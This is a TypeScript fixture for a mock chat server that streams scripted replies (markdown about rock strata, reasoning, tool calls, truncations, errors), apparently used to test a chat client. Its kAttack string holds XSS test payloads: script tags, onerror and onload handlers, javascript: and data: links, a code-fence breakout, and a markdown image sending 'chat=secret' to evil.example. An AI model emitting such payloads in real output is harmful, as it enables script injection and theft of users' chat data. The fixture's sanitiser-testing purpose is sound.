// What the scripted server answers.

export type Piece = { content: string } | { reasoning: string } | { tool_calls: object[] };

export interface Script {
  pieces: Piece[];
  /** Milliseconds between pieces. */
  pause: number;
  /** The finish_reason, or how the stream fails. */
  end: string;
}

/** A text in pieces of a few characters, as tokens come. */
const pieces = (text: string, length = 4) => text.match(new RegExp(`[^]{1,${length}}`, "g")) ?? [];
const content = (text: string): Piece[] => pieces(text).map((piece) => ({ content: piece }));
const reasoning = (text: string): Piece[] => pieces(text).map((piece) => ({ reasoning: piece }));

export const kMarkdown = `# Layers of sand

A **stratum** is a layer of rock or soil with *consistent* traits. Three rules order them:

1. **Superposition**: what lies lower is older.
2. **Original horizontality**: layers start out flat.
   - tilts come later
   - so do faults
3. Lateral continuity, as \`Steno\` wrote in 1669.

| Layer | Age (Ma) | Thickness |
|:------|---------:|:---------:|
| Chalk | 66 | 200 m |
| Clay | 145 | 80 m |
| Sandstone | 252 | 420 m |

## In code

\`\`\`python
def age(depth_m, rate_mm_per_year=0.5):
    """Years since a layer was laid down."""
    return depth_m * 1000 / rate_mm_per_year
\`\`\`

> The present is the key to the past.

More at [the survey](https://survey.example/strata). 
`;

export const kAttack = `<script>window.attacked = 1</script>

<img src=x onerror="window.attacked = 2">

![pixel](https://evil.example/pixel.png?chat=secret)

[run](javascript:window.attacked=3) [data](data:text/html,<script>window.attacked=4</script>)

[bank](https://bank.example@evil.example/) <svg onload="window.attacked=5">

\`\`\`html
</code></pre><script>window.attacked = 6</script>
\`\`\`

| <b onclick="window.attacked=7">a</b> | b |
|---|---|
| <iframe src="https://evil.example"></iframe> | c |
`;

const kThought = "The user asks about layers. I should order them by age, name Steno's rules, and give a short example.";

/** The script for a question whose first word is `word`; `count` numbers the requests. */
export function forQuestion(word: string, question: string, count: number, request: Record<string, unknown>): Script {
  const script = (made: Piece[], pause = 2, end = "stop"): Script => ({ pieces: made, pause, end });
  switch (word) {
    case "markdown":
      return script(content(kMarkdown), 1);
    case "attack":
      return script(content(kAttack), 0);
    case "think":
    case "Explain":
      return script([...reasoning(kThought), ...content(kMarkdown)], 20);
    case "long":
      return script(content("One more sentence for a long answer. ".repeat(400)), 5);
    case "huge":
      // About 50,000 tokens, with each kind of block.
      return script(pieces(`${kMarkdown}\n`.repeat(220), 64).map((piece) => ({ content: piece })), 0);
    case "tool":
      return script(
        [
          { tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "weather", arguments: "" } }] },
          ...pieces('{"city": "Bern", "days": 3}').map((piece) => ({ tool_calls: [{ index: 0, function: { arguments: piece } }] })),
        ],
        2,
        "tool_calls",
      );
    case "limit":
      return script(content("This answer ends in the middle of a"), 2, "length");
    case "cut":
      return script(content("This answer is cut off by a broken con"), 2, "cut");
    case "fault":
      return script(content("This answer fails"), 2, "error");
    case "json":
      return script(content(JSON.stringify(request.response_format ?? null)));
    default:
      return script([...reasoning("Let me see."), ...content(`Answer ${count} to “${question}”. It has two sentences.`)], 4);
  }
}
